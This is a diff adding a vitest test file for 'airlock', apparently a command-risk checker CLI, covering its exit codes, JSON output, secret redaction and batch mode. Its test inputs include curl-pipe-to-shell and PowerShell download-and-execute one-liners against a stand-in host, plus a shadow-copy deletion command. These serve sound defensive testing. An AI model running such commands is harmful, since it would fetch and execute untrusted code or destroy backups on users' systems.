@@ -1,0 +1,76 @@
+/** `airlock check` through the built CLI (spawned), including the --batch contract. */
+import { spawnSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+
+const root = resolve(import.meta.dirname, '../..');
+const cli = join(root, 'dist/cli/main.js');
+
+function airlock(args: string[], input?: string): { code: number | null; stdout: string; stderr: string } {
+  const r = spawnSync(process.execPath, [cli, ...args], { input: input ?? '', encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 60_000 });
+  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+
+describe.skipIf(!existsSync(cli))('airlock check (built CLI; run `npm run build` first)', () => {
+  it('exit codes: 0 allow, 1 ask, 3 deny, 2 error', () => {
+    expect(airlock(['check', '--', 'git', 'status']).code).toBe(0);
+    expect(airlock(['check', '--', 'history -c']).code).toBe(1);
+    expect(airlock(['check', '--', 'curl -s https://x.example/a | sh']).code).toBe(3);
+    expect(airlock(['check', '--shell', 'fish', '--', 'ls']).code).toBe(2);
+    expect(airlock(['check', '--bogus']).code).toBe(2);
+  });
+  it('reads the command from stdin and prints verdict, summary and findings without color when piped', () => {
+    const r = airlock(['check', '--shell', 'powershell'], "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n");
+    expect(r.code).toBe(3);
+    expect(r.stdout).toMatch(/^DENY {2}risk: critical/);
+    expect(r.stdout).toContain('What it does:');
+    expect(r.stdout).toContain('ps_download_execute');
+    expect(r.stdout).not.toContain('\u001b[');
+  });
+  it('--json prints the analysis with the command redacted', () => {
+    const r = airlock(['check', '--json', '--', 'curl -H "Authorization: Bearer sk-abcdefghijklmnopqrstuvwxyz" https://api.example.com']);
+    const j = JSON.parse(r.stdout) as { verdict: string; command: string; facts: { hosts: string[] } };
+    expect(j.verdict).toBe('allow');
+    expect(j.facts.hosts).toEqual(['api.example.com']);
+    expect(r.stdout).not.toContain('sk-abcdefghijklmnopqrstuvwxyz');
+  });
+  it('--batch answers every line in order; bad lines get an error and the run goes on', () => {
+    const lines = [
+      JSON.stringify({ id: 'a', shell: 'bash', command: 'ls -la' }),
+      'this is not json',
+      JSON.stringify({ id: 'b', shell: 'powershell', command: 'iwr http://x.example/a | iex' }),
+      JSON.stringify({ id: 'c', shell: 'fish', command: 'ls' }),
+      JSON.stringify({ id: 'd', shell: 'bash' }),
+      JSON.stringify([1, 2]),
+      JSON.stringify({ id: 'e', shell: 'cmd', command: 'vssadmin delete shadows /all /quiet' }),
+      JSON.stringify({ id: 'f', shell: 'bash', command: 'history -c' }),
+    ];
+    const r = airlock(['check', '--batch'], lines.join('\n') + '\n');
+    expect(r.code).toBe(0);
+    const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(out).toHaveLength(8);
+    expect(out.map((o) => o['id'])).toEqual(['a', null, 'b', 'c', 'd', null, 'e', 'f']);
+    expect(out[0]).toMatchObject({ verdict: 'allow', risk: 'none', categories: [], findings: [] });
+    expect(typeof out[0]!['micros']).toBe('number');
+    expect(out[1]!['error']).toMatch(/^ERR_JSON_MALFORMED/);
+    expect(out[2]).toMatchObject({ verdict: 'deny', risk: 'critical' });
+    expect((out[2]!['findings'] as { rule: string }[]).map((f) => f.rule)).toContain('ps_download_execute');
+    expect(Object.keys((out[2]!['findings'] as object[])[0]!).sort()).toEqual(['category', 'explanation', 'rule', 'severity']);
+    expect(out[3]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
+    expect(out[4]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
+    expect(out[5]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
+    expect(out[6]).toMatchObject({ verdict: 'deny', categories: ['destructive'] });
+    expect(out[7]).toMatchObject({ verdict: 'ask' });
+  });
+  it('shell-init prints snippets with a visible escape hatch', () => {
+    for (const sh of ['bash', 'zsh']) {
+      const r = airlock(['shell-init', sh]);
+      expect(r.code).toBe(0);
+      expect(r.stdout).toContain('#airlock-skip');
+      expect(r.stdout).toContain('AIRLOCK_SHELL_GUARD');
+      expect(r.stdout).toContain('AIRLOCK_BIN');
+    }
+    expect(airlock(['shell-init', 'fish']).code).toBe(2);
+  });
+});
